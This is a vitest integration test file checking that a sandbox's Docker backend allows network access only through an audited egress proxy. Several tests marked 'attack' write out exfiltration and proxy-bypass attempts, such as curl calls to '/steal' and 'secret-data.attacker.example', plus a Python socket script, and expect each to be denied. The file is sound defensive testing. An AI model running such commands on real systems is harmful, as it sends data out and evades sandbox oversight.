import { connect, createServer, type AddressInfo } from 'node:net';
import { execFile } from 'node:child_process';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { dockerEngine } from '../../../src/node/docker/engine.js';
import type { SandboxConfig } from '../../../src/node/index.js';
import { accesses, runAudited } from '../../helpers/audited-run.js';
import { startLoopbackServers, type LoopbackServers } from '../../helpers/loopback-servers.js';

/**
 * Network grants on the Docker backend, against the real engine: the
 * container's only way out is the run's egress proxy, which decides each
 * request as the WASI host does. The test servers listen on the host's
 * 127.0.0.1, which the container itself cannot reach: only the proxy, on the
 * host, can, and only where the policy grants it.
 */
let servers: LoopbackServers;
beforeAll(async () => {
  servers = await startLoopbackServers();
});
afterAll(async () => {
  await servers.close();
});

const docker = (allow: string[], extra: Partial<SandboxConfig> = {}): SandboxConfig => ({ backend: 'docker', network: { allow }, ...extra });
const shell = (allow: string[], script: string, extra: Partial<SandboxConfig> = {}) =>
  runAudited(docker(allow, extra), { program: 'sh', args: ['-c', script] });
/** curl fetching URL: the body, then the HTTP code it got (000 when none). */
const curl = (url: string, options = '') => `curl -sS -m 10 ${options} -w '\\n%{http_code}' ${url}`;
/** curl opening a CONNECT tunnel to URL's host and port: the code the proxy answered the CONNECT with. */
const tunnel = (url: string) => `curl -sS -m 10 -p -o /dev/null -w '%{http_connect}' ${url}`;

describe('a container with network grants', () => {
  it('fetches a granted host and port through the proxy (plain HTTP), audited as on the wasm backend', async () => {
    const { result, audit } = await shell([`127.0.0.1:${servers.http}`], curl(`http://127.0.0.1:${servers.http}/hello?secret=1`));
    expect(result.stdout).toBe(`GET /hello?secret=1 host=127.0.0.1:${servers.http}\n200`);
    expect(result.denials).toEqual([]);
    expect(accesses(audit)).toEqual([`allowed http-request 127.0.0.1:${servers.http}`]);
  });

  it('tunnels TCP to a granted host and port with CONNECT', async () => {
    const { result, audit } = await shell([`127.0.0.1:${servers.http}`], curl(`http://127.0.0.1:${servers.http}/tunnelled`, '-p'));
    expect(result.stdout).toBe(`GET /tunnelled host=127.0.0.1:${servers.http}\n200`);
    expect(accesses(audit)).toEqual([`allowed tcp-connect 127.0.0.1:${servers.http}`]);
  });

  it('has its proxy variables from the env file, and nothing on its command line', async () => {
    const { result } = await shell(
      [`127.0.0.1:${servers.http}`],
      'echo "$HTTP_PROXY $HTTPS_PROXY $ALL_PROXY $http_proxy"; cat /proc/1/cmdline | tr "\\0" " "',
    );
    const [variables, cmdline] = result.stdout.split('\n');
    expect(variables).toMatch(/^(http:\/\/[0-9.]+:[0-9]+ ?){4}$/);
    expect(cmdline).not.toContain('http://');
  });

  it('attack: reaching a host the policy does not grant is refused with 403 and a denial', async () => {
    const { result, audit } = await shell([`127.0.0.1:${servers.http}`], curl('http://10.255.255.1/steal', '-o /dev/null'));
    expect(result.stdout.trim()).toBe('403');
    expect(result.denials).toMatchObject([{ operation: 'http-request', target: '10.255.255.1:80', reason: 'network-denied' }]);
    expect(accesses(audit)).toEqual(['denied http-request 10.255.255.1:80']);
  });

  it('attack: another port of a granted host is refused, through CONNECT too', async () => {
    const { result, audit } = await shell(
      [`127.0.0.1:${servers.http}`],
      `${curl(`http://127.0.0.1:${servers.echo}/`, '-o /dev/null')}; echo; ${tunnel(`http://127.0.0.1:${servers.echo}/`)}`,
    );
    expect(result.stdout).toBe('\n403\n403');
    expect(accesses(audit)).toEqual([`denied http-request 127.0.0.1:${servers.echo}`, `denied tcp-connect 127.0.0.1:${servers.echo}`]);
    expect(result.denials.map((denial) => denial.detail)).toEqual([
      `no network.allow entry grants 127.0.0.1:${servers.echo}`,
      `no network.allow entry grants 127.0.0.1:${servers.echo}`,
    ]);
  });

  it('attack: a granted name that resolves to loopback (DNS rebinding) is refused; the address itself is not reached', async () => {
    const { result, audit } = await shell(
      [`localhost:${servers.http}`],
      `${curl(`http://localhost:${servers.http}/`, '-o /dev/null')}; echo; ${tunnel(`http://localhost:${servers.http}/`)}`,
    );
    expect(result.stdout).toBe('\n403\n403');
    expect(accesses(audit)).toEqual([
      `denied http-request localhost:${servers.http} (127.0.0.1)`,
      `denied tcp-connect localhost:${servers.http} (127.0.0.1)`,
    ]);
    expect(result.denials[0]!.detail).toContain('loopback');
  });

  it('attack: a name no grant could match is never looked up (no data out through DNS)', async () => {
    const { result, audit } = await shell([`127.0.0.1:${servers.http}`], curl('http://secret-data.attacker.example/', '-o /dev/null'));
    expect(result.stdout.trim()).toBe('403');
    expect(accesses(audit)).toEqual(['denied http-request http://secret-data.attacker.example/']);
  });

  it('attack: bypassing the proxy fails: no route out, no host loopback, no host service, no IPv6, no DNS', async () => {
    const hostService = createServer((socket) => socket.end('host service\n'));
    await new Promise<void>((resolve) => hostService.listen(0, '0.0.0.0', resolve));
    const port = (hostService.address() as AddressInfo).port;
    const script = [
      'import os, socket, urllib.parse',
      'gateway = urllib.parse.urlsplit(os.environ["HTTP_PROXY"]).hostname',
      `for host, port in (("1.1.1.1", 80), ("127.0.0.1", ${servers.http}), (gateway, ${port}), ("172.17.0.1", ${port})):`,
      '  s = socket.socket(); s.settimeout(1)',
      '  try: s.connect((host, port)); print("connected", host)',
      '  except OSError as e: print("failed", host == gateway and "gateway" or host)',
      'print("ipv6", open("/proc/sys/net/ipv6/conf/all/disable_ipv6").read().strip() == "1" and "off" or "on")',
      'try: socket.getaddrinfo("example.com", 80); print("resolved")',
      'except OSError: print("no dns")',
    ].join('\n');
    try {
      const { result, audit } = await runAudited(docker([`127.0.0.1:${servers.http}`]), { program: 'python3', args: ['-c', script] });
      expect(result.stdout).toBe('failed 1.1.1.1\nfailed 127.0.0.1\nfailed gateway\nfailed 172.17.0.1\nipv6 off\nno dns\n');
      expect(accesses(audit)).toEqual([]);
    } finally {
      hostService.close();
    }
  });

  it('leaves no network, proxy listener or connection behind, also when its timeout ends it', async () => {
    const engine = dockerEngine();
    const { result } = await shell(
      [`127.0.0.1:${servers.silent}`],
      `echo "$HTTP_PROXY"; curl -sS -p http://127.0.0.1:${servers.silent}/ & sleep 30`,
      { limits: { timeout: '3s' } },
    );
    expect(result.status).toBe('timeout');
    const proxy = new URL(result.stdout.trim());
    expect(await engine.listNetworks({ filters: { label: [`goodbot.run=${result.runId}`] } })).toEqual([]);
    const refused = await new Promise<string>((resolve) => {
      const socket = connect({ host: proxy.hostname, port: Number(proxy.port) });
      socket.on('connect', () => resolve('connected')).on('error', (error: NodeJS.ErrnoException) => resolve(error.code ?? 'error'));
    });
    expect(refused).not.toBe('connected');
    const { stdout: rules } = await promisify(execFile)('iptables', ['-w', '-S', 'INPUT']);
    expect(rules).not.toContain(result.runId);
    const seen = await servers.seen();
    expect(seen.silent.opened).toBe(seen.silent.closed);
  });
});
